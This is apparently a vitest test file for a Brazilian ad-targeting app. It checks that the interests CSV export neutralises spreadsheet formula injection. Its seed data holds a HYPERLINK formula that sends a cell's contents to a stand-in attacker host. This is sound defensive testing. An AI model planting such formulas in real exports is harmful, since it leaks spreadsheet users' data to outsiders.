import { interestsToCsv } from '@sniperads/contract';
import { describe, expect, it } from 'vitest';
import { interests } from '../src/db/schema';
import { expectStatus, useSession, useTestApp } from './helpers/app';

/**
 * Issue 25: "the CSV export does not neutralise = + - @". The interests export (/interesses,
 * 'Exportar CSV') writes what the API answers, and the catalogue keeps whatever names Meta's
 * targeting search returned. A name that is a formula must reach the spreadsheet as text.
 */
const t = useTestApp();
const user = useSession(t, { plan: 'pro' });

const PAYLOAD = '=HYPERLINK("https://attacker.example/?d="&A3;"Confeitaria gourmet")';

describe('the interests CSV export', () => {
  it('writes a formula-like interest from the API as inert text', async () => {
    await t.database.db.insert(interests).values([
      {
        metaId: '6011110000001',
        locale: 'pt_BR',
        name: PAYLOAD,
        audienceLower: 100_000,
        audienceUpper: 120_000,
        path: ['Interesses', '@SUM(A1:A9)', 'Confeitaria gourmet'],
        topic: '+Comidas e bebidas',
        source: 'meta',
      },
    ]);
    const res = await user.api.interests.searchInterests({ query: { search: 'confeitaria gourmet' } });
    const found = expectStatus(res, 200).data.items.filter((i) => i.id === '6011110000001');
    expect(found.map((i) => i.name)).toEqual([PAYLOAD]);

    const [, row] = interestsToCsv(found).slice(1).split('\r\n');
    const cells = row!.split(/;(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    // Name, category and path start with an apostrophe inside quotes: text, never a formula.
    expect(cells[0]).toBe(`"'=HYPERLINK(""https://attacker.example/?d=""&A3;""Confeitaria gourmet"")"`);
    expect(cells[4]).toBe(`"'+Comidas e bebidas"`);
    expect(cells[5]).toBe('Interesses > @SUM(A1:A9) > Confeitaria gourmet');
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
